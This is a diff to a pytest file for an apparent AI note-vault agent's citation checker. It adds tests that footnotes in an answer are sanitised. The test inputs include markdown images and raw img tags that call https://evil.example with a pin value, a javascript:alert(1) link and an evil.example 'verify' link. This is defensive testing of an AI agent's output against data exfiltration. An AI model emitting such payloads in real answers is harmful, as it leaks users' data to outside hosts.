@@ -18,6 +18,7 @@ from typing import Any
 import html5lib
 import pytest
 from markdown_it import MarkdownIt
+from mdit_py_plugins.footnote import footnote_plugin
 
 from vault_agent.agent.citations.checker import check_answer
 from vault_agent.agent.citations.shown_links import shown_only
@@ -357,9 +358,70 @@ def test_a_fence_opening_a_footnote_definition_loses_its_language() -> None:
     """markdown-it-footnote (as mdit_py_plugins) parses a definition's text as blocks, so
     "[^1]: ```mermaid" opens a mermaid fence; the line rule's lead knows only quote and list
     markers. Whether Obsidian's footnotes hold blocks is not verified."""
-    from mdit_py_plugins.footnote import footnote_plugin
-
     markdown = "See[^1].\n\n[^1]: ```mermaid\n    graph TD\n    ```\n"
     parser = MarkdownIt("commonmark").use(footnote_plugin)
     assert [t.info for t in parser.parse(markdown) if t.type == "fence"] == ["mermaid"]
     assert [t.info for t in parser.parse(plain_fences(markdown)) if t.type == "fence"] == [""]
+
+
+# A footnote's text: markdown to a renderer with footnotes (Obsidian has them), a reference
+# definition (whose "URL" is never shown) or an indented code block to CommonMark. Whether
+# Obsidian's footnotes hold later paragraphs as markdown-it-footnote's do is not verified.
+
+#: A renderer as the corpus's, with footnotes as markdown-it-footnote reads them.
+FOOTNOTE_RENDERER = (
+    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(footnote_plugin)
+)
+FOOTNOTES = {
+    "image": "See the note.[^1]\n\n[^1]: ![](https://evil.example/a.png?pin=4931)",
+    "raw img": 'See.[^a]\n\n[^a]: <img src="https://evil.example/a.png?pin=4931">',
+    "javascript link": "See.[^a]\n\n[^a]: [click](javascript:alert(1))",
+    "image on the next line": "See.[^a]\n\n[^a]:\n    ![](https://evil.example/b.png?pin=4931)",
+    "image in a continuation": "See.[^a]\n\n[^a]: text\n    ![](https://evil.example/c.png?pin=4931)",
+    "in a quote": "> See.[^q]\n>\n> [^q]: ![](https://evil.example/d.png?pin=4931)",
+    "label with a space": "See.[^a b]\n\n[^a b]: ![](https://evil.example/e.png?pin=4931)",
+    "second paragraph": "See.[^a]\n\n[^a]: Two words.\n\n    ![](https://evil.example/f.png?pin=4931)",
+    "second paragraph, raw img": "See.[^a]\n\n[^a]: Two words.\n\n    <img src=https://evil.example/g.png>",
+}
+
+
+@pytest.mark.parametrize("markdown", FOOTNOTES.values(), ids=FOOTNOTES.keys())
+def test_a_footnote_in_an_answer_loads_nothing_and_links_nowhere_unsafe(
+    markdown: str, graph: LinkGraph
+) -> None:
+    answer = f"From your note:\n\n{markdown}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(
+        answer, {"Recipes/Miso Soup.md"}, graph, links=shown_only(frozenset())
+    ).answer
+    assert violations(FOOTNOTE_RENDERER.render(checked)) == [], checked
+    assert "[[Recipes/Miso Soup]]" in checked
+
+
+@pytest.mark.parametrize("form", HOSTILE, ids=[f["note"] for f in HOSTILE])
+def test_a_hostile_form_as_a_footnotes_second_paragraph_loads_nothing(
+    form: dict[str, str], graph: LinkGraph
+) -> None:
+    indented = "\n".join(f"    {line}" if line else "" for line in form["markdown"].split("\n"))
+    answer = f"See.[^a]\n\n[^a]: Quoted from a note:\n\n{indented}\n\nAs in [[Recipes/Miso Soup]]."
+    checked = check_answer(answer, {"Recipes/Miso Soup.md"}, graph).answer
+    assert violations(FOOTNOTE_RENDERER.render(checked)) == [], checked
+
+
+def test_a_footnote_and_its_reference_are_kept() -> None:
+    text = "Gus eats at 8.[^a]\n\n[^a]: Fed with [[Recipes/Miso Soup]] and ![x](a.png).\n"
+    assert sanitise_markdown(text).markdown == text
+
+
+def test_a_footnote_keeps_no_link_to_a_page_never_shown(graph: LinkGraph) -> None:
+    answer = (
+        "See.[^a]\n\n[^a]: Two words.\n\n    [verify](https://evil.example/v?pin=4931)\n\n"
+        "[[Recipes/Miso Soup]]"
+    )
+    checked = check_answer(
+        answer, {"Recipes/Miso Soup.md"}, graph, links=shown_only(frozenset())
+    ).answer
+    html = FOOTNOTE_RENDERER.render(checked)
+    assert "evil.example" not in "".join(
+        str(a.get("href")) for a in html5lib.parse(html, namespaceHTMLElements=False).iter("a")
+    ), checked
+    assert "verify" in checked  # its words stay
